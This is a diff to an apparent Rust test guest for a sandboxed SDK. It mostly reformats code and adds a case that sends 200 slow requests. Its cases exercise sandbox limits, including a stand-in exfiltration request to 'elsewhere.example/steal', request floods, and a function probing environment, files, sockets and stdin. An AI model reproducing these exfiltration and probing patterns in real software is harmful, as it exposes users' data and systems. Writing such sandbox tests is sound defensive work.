@@ -4,8 +4,8 @@
 use std::hint::black_box;
 
 use quoin_sdk::{
-    Algorithm, Change, Check, Customer, CustomerStatus, Discover, Fault, FaultKind, Header, Host, Inbound, Level, ObjectKind,
-    Page, ReadRequest, Reply, Report, Request, Webhook, config,
+    Algorithm, Change, Check, Customer, CustomerStatus, Discover, Fault, FaultKind, Header, Host, Inbound, Level,
+    ObjectKind, Page, ReadRequest, Reply, Report, Request, Webhook, config,
 };
 use serde::Deserialize;
 
@@ -82,7 +82,9 @@ pub fn read(host: &dyn Host, request: &ReadRequest, guest: &str) -> Result<Page,
         }
         "divide_by_zero" => said(&(7 / black_box(0)).to_string()),
         "own_fault" => Err(Fault::new(FaultKind::RateLimited, "429", "slow down").after_ms(1_500)),
-        "too_many_changes" => Ok(Page::of((0..=request.limit).map(|n| named(&n.to_string())).collect::<Result<_, _>>()?)),
+        "too_many_changes" => {
+            Ok(Page::of((0..=request.limit).map(|n| named(&n.to_string())).collect::<Result<_, _>>()?))
+        }
         "huge_cursor" => Ok(Page { next: Some(vec![0; 100_000]), ..Page::default() }),
         "log_flood" => {
             for n in 0..2_000_u32 {
@@ -104,6 +106,12 @@ fn networked(host: &dyn Host, guest: &str) -> Result<Page, Fault> {
     match guest {
         "forbidden_host" => answer(host.send(Request::get("https://elsewhere.example/steal?data=1"))),
         "forbidden_write_in_read" => answer(host.send(Request::post("https://vendor.example/customers"))),
+        "patient" => {
+            for _ in 0..200 {
+                host.send(Request::get("https://vendor.example/slow"))?;
+            }
+            said("asked 200 times")
+        }
         "request_flood" => loop {
             host.send(Request::get("https://vendor.example/ok"))?;
         },
@@ -136,7 +144,9 @@ fn fished() -> String {
     let listener = std::net::TcpListener::bind("127.0.0.1:0").is_ok();
     let resolved = std::net::ToSocketAddrs::to_socket_addrs("localhost:80").is_ok();
     let stdin = std::io::read_to_string(std::io::stdin()).unwrap_or_default();
-    format!("env {environment:?} args {arguments:?} files {found:?} socket {socket:?} listener {listener} dns {resolved} stdin {stdin:?}")
+    format!(
+        "env {environment:?} args {arguments:?} files {found:?} socket {socket:?} listener {listener} dns {resolved} stdin {stdin:?}"
+    )
 }
 
 fn answer(sent: Result<quoin_sdk::Response, Fault>) -> Result<Page, Fault> {
